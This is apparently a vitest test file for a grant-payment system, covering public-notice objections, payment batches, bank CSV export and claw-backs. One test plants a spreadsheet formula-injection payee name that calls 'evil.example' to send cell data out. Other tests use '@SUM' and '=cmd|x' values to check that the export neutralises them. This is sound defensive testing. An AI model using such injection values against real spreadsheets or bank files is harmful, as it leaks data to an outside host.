import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { verifyAuditChain } from "@/lib/audit/verify-audit-chain";
import { encryptPii, last4 } from "@/lib/crypto/pii";
import { createTestDatabase, type TestDatabase } from "@/tooling/db/test-database";
import { listPublicNotice } from "@/lib/grants/public-notice/list-public-notice";
import { recordObjectionFromInput } from "@/lib/grants/public-notice/record-objection";
import { resolveObjectionFromInput } from "@/lib/grants/public-notice/resolve-objection";
import { clawBackPaymentFromInput } from "@/lib/grants/payments/claw-back-payment";
import { createPaymentBatch } from "@/lib/grants/payments/create-payment-batch";
import { exportPaymentBatch } from "@/lib/grants/payments/export-payment-batch";
import { bankFile } from "@/lib/grants/payments/bank-file";
import { exportLabels } from "@/lib/exports/export-labels";
import { markPaymentBatchPaidFromInput } from "@/lib/grants/payments/mark-payment-batch-paid";
import { listClaimClawBacks } from "@/lib/grants/payments/list-claim-claw-backs";
import { markPaymentItemFailedFromInput } from "@/lib/grants/payments/mark-payment-item-failed";
import { approveClaim } from "@/lib/review/approve-claim";
import { institution, reviewer, submittedOffshoreClaim, submittedTrainingClaim, uniqueResidentId } from "./review-fixtures";
import { DATABASE_KINDS, applyTestSecrets as applyTestSecrets } from "./test-env";

applyTestSecrets();

const PUBLISHED = new Date("2026-11-25T02:00:00Z"); // Wednesday
const DURING = new Date("2026-12-01T02:00:00Z"); // Tuesday, still in notice
const AFTER = new Date("2026-12-03T02:00:00Z"); // Thursday, notice over (5 working days)

describe.each(DATABASE_KINDS)("public notice and payment batches on %s", (kind) => {
  let db: TestDatabase;
  beforeAll(async () => {
    db = await createTestDatabase(kind);
  });
  afterAll(async () => db?.close());

  async function approvedWithBank(executedUsd = "300000.00") {
    const r = await reviewer(db.prisma);
    const { claim, enterprise } = await submittedOffshoreClaim(db.prisma, executedUsd);
    await db.prisma.organisation.update({
      where: { id: enterprise.organisation.id },
      data: { bankAccountName: enterprise.organisation.nameZh, bankName: "中国银行南昌分行", bankAccountEnc: encryptPii("6216610100009876543"), bankAccountLast4: last4("6216610100009876543") },
    });
    await approveClaim(db.prisma, r, { kind: "OFFSHORE", claimId: claim.id, version: claim.version }, PUBLISHED);
    const grant = await db.prisma.ledgerEntry.findFirstOrThrow({ where: { offshoreClaimId: claim.id }, include: { noticeItem: true } });
    return { claim, enterprise, grant };
  }

  it("shows approved grants on the public notice during the period only; an objection holds the item", async () => {
    const { enterprise, grant } = await approvedWithBank();
    const during = await listPublicNotice(db.prisma, "nanchang", DURING);
    expect(during.find((x) => x.id === grant.noticeItem!.id)).toMatchObject({ publicName: enterprise.organisation.nameZh, amountFen: 60_000_00, held: false });
    expect((await listPublicNotice(db.prisma, "nanchang", AFTER)).some((x) => x.id === grant.noticeItem!.id)).toBe(false);

    const payer = await reviewer(db.prisma, { canReleasePayments: true });
    await recordObjectionFromInput(db.prisma, payer, { noticeItemId: grant.noticeItem!.id, objection: "举报：合同金额虚报" }, DURING);
    expect((await listPublicNotice(db.prisma, "nanchang", AFTER)).find((x) => x.id === grant.noticeItem!.id)?.held).toBe(true);
    // Held: not payable even after the period.
    const held = await db.prisma.noticeItem.findUniqueOrThrow({ where: { id: grant.noticeItem!.id } });
    expect(held.status).toBe("OBJECTED");
    await resolveObjectionFromInput(db.prisma, payer, { noticeItemId: grant.noticeItem!.id, outcome: "UPHOLD", note: "核实虚报" }, DURING);
    expect((await db.prisma.noticeItem.findUniqueOrThrow({ where: { id: grant.noticeItem!.id } })).status).toBe("WITHDRAWN");
    expect(await db.prisma.ledgerEntry.count({ where: { reversesId: grant.id } })).toBe(1);
    // An objection after the period is refused.
    const other = await approvedWithBank();
    await expect(recordObjectionFromInput(db.prisma, payer, { noticeItemId: other.grant.noticeItem!.id, objection: "x" }, AFTER)).rejects.toMatchObject({ code: "noticeNotOpen" });
  });

  it("batches only items whose notice ended, exports a bank CSV, pays, fails one back to the pool, claws back", async () => {
    const payer = await reviewer(db.prisma, { canReleasePayments: true });
    const plain = await reviewer(db.prisma);
    // Clear the pool left by other tests of this file.
    await createPaymentBatch(db.prisma, payer, AFTER).catch(() => undefined);
    const one = await approvedWithBank();
    const two = await approvedWithBank("400000.00");
    // An applicant chooses its account name and bank: a spreadsheet formula arrives in the bank file as text.
    const HOSTILE_PAYEE = '=HYPERLINK("http://evil.example/?"&C2,"查看")';
    await db.prisma.organisation.update({ where: { id: two.enterprise.organisation.id }, data: { bankAccountName: HOSTILE_PAYEE, bankName: "@SUM(1+1)" } });

    await expect(createPaymentBatch(db.prisma, plain, AFTER)).rejects.toMatchObject({ code: "forbidden" });
    await expect(createPaymentBatch(db.prisma, payer, DURING)).rejects.toMatchObject({ code: "emptyBatch" });

    const batch = await createPaymentBatch(db.prisma, payer, AFTER);
    const items = await db.prisma.paymentItem.findMany({ where: { batchId: batch.id } });
    expect(items.map((i) => i.ledgerEntryId).sort()).toEqual([one.grant.id, two.grant.id].sort());
    expect(batch.totalFen).toBe(140_000_00n);
    // Never twice: a second batch finds nothing.
    await expect(createPaymentBatch(db.prisma, payer, AFTER)).rejects.toMatchObject({ code: "emptyBatch" });

    const exported = await exportPaymentBatch(db.prisma, payer, batch.id, AFTER);
    const csv = await new Response(bankFile(exported.rows, "csv", exportLabels("zh-CN"))).text();
    const rows = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.slice(1);
    expect(rows).toHaveLength(2);
    expect(rows.find((r) => r[0] === one.enterprise.organisation.nameZh)).toEqual([
      one.enterprise.organisation.nameZh,
      "中国银行南昌分行",
      "6216610100009876543",
      "60000.00",
      expect.stringContaining(one.claim.claimNo),
      expect.any(String),
    ]);
    // Payee and bank neutralised; the account stays digits and the amount a number.
    expect(rows.find((r) => r[0] === `'${HOSTILE_PAYEE}`)).toEqual([`'${HOSTILE_PAYEE}`, "'@SUM(1+1)", "6216610100009876543", "80000.00", expect.stringContaining(two.claim.claimNo), expect.any(String)]);

    const failedItem = items.find((i) => i.ledgerEntryId === two.grant.id)!;
    await markPaymentItemFailedFromInput(db.prisma, payer, { itemId: failedItem.id, reason: "账户已销户" });
    const paid = await markPaymentBatchPaidFromInput(db.prisma, payer, { batchId: batch.id, bankReference: "CBN20261203-0001", valueDate: "2026-12-03" }, AFTER);
    expect(paid.paidItems).toBe(1);
    expect(paid.emails.map((e) => e.template)).toEqual(["claimPaid"]);
    expect((await db.prisma.offshoreClaim.findUniqueOrThrow({ where: { id: one.claim.id } })).status).toBe("PAID");
    expect((await db.prisma.offshoreClaim.findUniqueOrThrow({ where: { id: two.claim.id } })).status).toBe("PAYABLE");
    await expect(markPaymentBatchPaidFromInput(db.prisma, payer, { batchId: batch.id, bankReference: "CBN20261203-0002", valueDate: "2026-12-03" }, AFTER)).rejects.toMatchObject({ code: "batchAlreadyPaid" });

    // The failed grant is back in the pool, alone.
    const again = await createPaymentBatch(db.prisma, payer, AFTER);
    expect((await db.prisma.paymentItem.findMany({ where: { batchId: again.id } })).map((i) => i.ledgerEntryId)).toEqual([two.grant.id]);

    // Claw back the paid item: a reversing entry with the reason; the running total drops.
    const paidItem = items.find((i) => i.ledgerEntryId === one.grant.id)!;
    const { reversal } = await clawBackPaymentFromInput(db.prisma, payer, { itemId: paidItem.id, reason: "虚假材料追回" });
    expect(reversal).toMatchObject({ amountFen: -60_000_00, reversesId: one.grant.id });
    await expect(clawBackPaymentFromInput(db.prisma, payer, { itemId: failedItem.id, reason: "x" })).rejects.toMatchObject({ code: "paymentItemNotPaid" });
    expect(await verifyAuditChain(db.prisma)).toMatchObject({ valid: true });
  });

  async function exportedBatch() {
    const payer = await reviewer(db.prisma, { canReleasePayments: true });
    await createPaymentBatch(db.prisma, payer, AFTER).catch(() => undefined);
    const approved = await approvedWithBank();
    const batch = await createPaymentBatch(db.prisma, payer, AFTER);
    await exportPaymentBatch(db.prisma, payer, batch.id, AFTER);
    return { payer, batch, ...approved };
  }

  it("marks a batch paid only with the bank's reference and a value date not in the future (China time); both stored and audited", async () => {
    const { payer, batch, claim } = await exportedBatch();
    const mark = (input: Record<string, string>, now = AFTER) => markPaymentBatchPaidFromInput(db.prisma, payer, { batchId: batch.id, bankReference: "", valueDate: "", ...input } as never, now);
    // No reference, no date, a malformed reference, a malformed date: refused by the schema, nothing saved.
    await expect(mark({ valueDate: "2026-12-03" })).rejects.toMatchObject({ issues: expect.arrayContaining([expect.objectContaining({ path: ["bankReference"], message: "required" })]) });
    await expect(mark({ bankReference: "CBN-1" })).rejects.toMatchObject({ issues: expect.arrayContaining([expect.objectContaining({ path: ["valueDate"], message: "required" })]) });
    await expect(mark({ bankReference: "=cmd|x", valueDate: "2026-12-03" })).rejects.toMatchObject({ issues: expect.arrayContaining([expect.objectContaining({ path: ["bankReference"], message: "bankReference" })]) });
    await expect(mark({ bankReference: "CBN-1", valueDate: "2026-02-30" })).rejects.toMatchObject({ issues: expect.arrayContaining([expect.objectContaining({ path: ["valueDate"], message: "date" })]) });
    await expect(mark({ bankReference: "CBN-1", valueDate: "2999-01-01" })).rejects.toMatchObject({ issues: expect.arrayContaining([expect.objectContaining({ path: ["valueDate"], message: "dateInFuture" })]) });
    // The operation checks against its own clock in China time: at 10:00 UTC on 3 Dec (18:00 in Nanchang) 4 Dec is tomorrow; at 16:30 UTC it is today there.
    await expect(mark({ bankReference: "CBN-1", valueDate: "2026-12-04" }, new Date("2026-12-03T10:00:00Z"))).rejects.toMatchObject({ code: "dateInFuture", field: "valueDate" });
    const untouched = await db.prisma.paymentBatch.findUniqueOrThrow({ where: { id: batch.id } });
    expect(untouched).toMatchObject({ status: "EXPORTED", paidAt: null, bankReference: null, valueDate: null });
    expect((await db.prisma.offshoreClaim.findUniqueOrThrow({ where: { id: claim.id } })).status).toBe("PAYABLE");

    const paid = await mark({ bankReference: "  CBN20261204-778  ", valueDate: "2026-12-04" }, new Date("2026-12-03T16:30:00Z"));
    expect(paid.paidItems).toBe(1);
    const stored = await db.prisma.paymentBatch.findUniqueOrThrow({ where: { id: batch.id } });
    expect(stored).toMatchObject({ status: "PAID", bankReference: "CBN20261204-778", valueDate: new Date("2026-12-04T00:00:00Z") });
    const audit = await db.prisma.auditEntry.findFirstOrThrow({ where: { action: "payment-batch.paid", targetId: batch.id } });
    expect(audit.details).toMatchObject({ items: 1, bankReference: "CBN20261204-778", valueDate: "2026-12-04" });
  });

  it("a claw-back moves the claim to CLAWED_BACK, tells the applicant (inbox and mail) and shows them reason and amount", async () => {
    const { payer, batch, claim, enterprise } = await exportedBatch();
    await markPaymentBatchPaidFromInput(db.prisma, payer, { batchId: batch.id, bankReference: "CBN-9", valueDate: "2026-12-03" }, AFTER);
    expect((await db.prisma.offshoreClaim.findUniqueOrThrow({ where: { id: claim.id } })).status).toBe("PAID");
    const [item] = await db.prisma.paymentItem.findMany({ where: { batchId: batch.id } });

    const outcome = await clawBackPaymentFromInput(db.prisma, payer, { itemId: item!.id, reason: "合同系伪造" });
    expect((await db.prisma.offshoreClaim.findUniqueOrThrow({ where: { id: claim.id } })).status).toBe("CLAWED_BACK");
    const inbox = await db.prisma.notification.findMany({ where: { organisationId: enterprise.organisation.id, kind: "claimClawedBack" } });
    expect(inbox).toHaveLength(1);
    expect(inbox[0]).toMatchObject({ userId: enterprise.user.id, href: `/enterprise/claims/${claim.id}`, params: { claimNo: claim.claimNo, amount: "¥60,000.00", reason: "合同系伪造" } });
    expect(outcome.emails).toEqual([expect.objectContaining({ to: enterprise.user.email, template: "claimClawedBack" })]);

    expect(await listClaimClawBacks(db.prisma, enterprise.organisation.id, "OFFSHORE", claim.id)).toEqual([
      { id: outcome.reversal.id, amountFen: 60_000_00, reason: "合同系伪造", at: expect.any(Date) },
    ]);
    // Another organisation sees none of it.
    const other = await approvedWithBank();
    expect(await listClaimClawBacks(db.prisma, other.enterprise.organisation.id, "OFFSHORE", claim.id)).toEqual([]);
    const audit = await db.prisma.auditEntry.findFirstOrThrow({ where: { action: "payment-item.claw-back", targetId: item!.id } });
    expect(audit.details).toMatchObject({ reason: "合同系伪造", amountFen: 60_000_00, claimStatus: "CLAWED_BACK" });
    expect(await verifyAuditChain(db.prisma)).toMatchObject({ valid: true });
  });

  it("a partial claw-back (one trainee's grant of a training claim) moves the whole claim; the rest stays paid", async () => {
    const payer = await reviewer(db.prisma, { canReleasePayments: true });
    const r = await reviewer(db.prisma);
    await createPaymentBatch(db.prisma, payer, AFTER).catch(() => undefined);
    const inst = await institution(db.prisma);
    const claim = await submittedTrainingClaim(db.prisma, inst, [uniqueResidentId(), uniqueResidentId()]);
    await approveClaim(db.prisma, r, { kind: "TRAINING", claimId: claim.id, version: claim.version }, PUBLISHED);
    const batch = await createPaymentBatch(db.prisma, payer, AFTER);
    await exportPaymentBatch(db.prisma, payer, batch.id, AFTER);
    await markPaymentBatchPaidFromInput(db.prisma, payer, { batchId: batch.id, bankReference: "ICBC/2026/12/03.7", valueDate: "2026-12-03" }, AFTER);
    expect((await db.prisma.trainingClaim.findUniqueOrThrow({ where: { id: claim.id } })).status).toBe("PAID");
    const items = await db.prisma.paymentItem.findMany({ where: { batchId: batch.id }, include: { ledgerEntry: true } });
    expect(items).toHaveLength(4);
    const traineeItem = items.find((i) => i.ledgerEntry.rule === "B_TRAINEE")!;

    const { emails } = await clawBackPaymentFromInput(db.prisma, payer, { itemId: traineeItem.id, reason: "学员未实际参训" });
    expect((await db.prisma.trainingClaim.findUniqueOrThrow({ where: { id: claim.id } })).status).toBe("CLAWED_BACK");
    expect(emails).toEqual([expect.objectContaining({ to: inst.user.email, template: "claimClawedBack", params: expect.objectContaining({ amount: "¥1,000.00", reason: "学员未实际参训" }) })]);
    expect(await db.prisma.notification.count({ where: { organisationId: inst.organisation.id, kind: "claimClawedBack", href: `/institution/claims/${claim.id}` } })).toBe(1);
    expect(await listClaimClawBacks(db.prisma, inst.organisation.id, "TRAINING", claim.id)).toEqual([expect.objectContaining({ amountFen: 1_000_00, reason: "学员未实际参训" })]);
    // Only that grant is reversed; the other three stay paid.
    expect(await db.prisma.ledgerEntry.count({ where: { trainingClaimId: claim.id, reversesId: { not: null } } })).toBe(1);
    expect(await db.prisma.paymentItem.count({ where: { batchId: batch.id, status: "PAID" } })).toBe(4);
  });

  it("refuses exporting a batch whose items are all failed (empty)", async () => {
    const payer = await reviewer(db.prisma, { canReleasePayments: true });
    await createPaymentBatch(db.prisma, payer, AFTER).catch(() => undefined);
    await approvedWithBank();
    const batch = await createPaymentBatch(db.prisma, payer, AFTER);
    const [item] = await db.prisma.paymentItem.findMany({ where: { batchId: batch.id } });
    await markPaymentItemFailedFromInput(db.prisma, payer, { itemId: item!.id, reason: "退票" });
    await expect(exportPaymentBatch(db.prisma, payer, batch.id, AFTER)).rejects.toMatchObject({ code: "emptyBatch" });
  });

  it("numbers a batch by the date in China, also just after 16:00 UTC (the next day in Nanchang)", async () => {
    const payer = await reviewer(db.prisma, { canReleasePayments: true });
    await createPaymentBatch(db.prisma, payer, AFTER).catch(() => undefined);
    await approvedWithBank();
    const batch = await createPaymentBatch(db.prisma, payer, new Date("2026-12-03T16:05:00Z"));
    expect(batch.batchNo).toMatch(/^PB-20261204-[0-9A-F]{6}$/);
  });
});
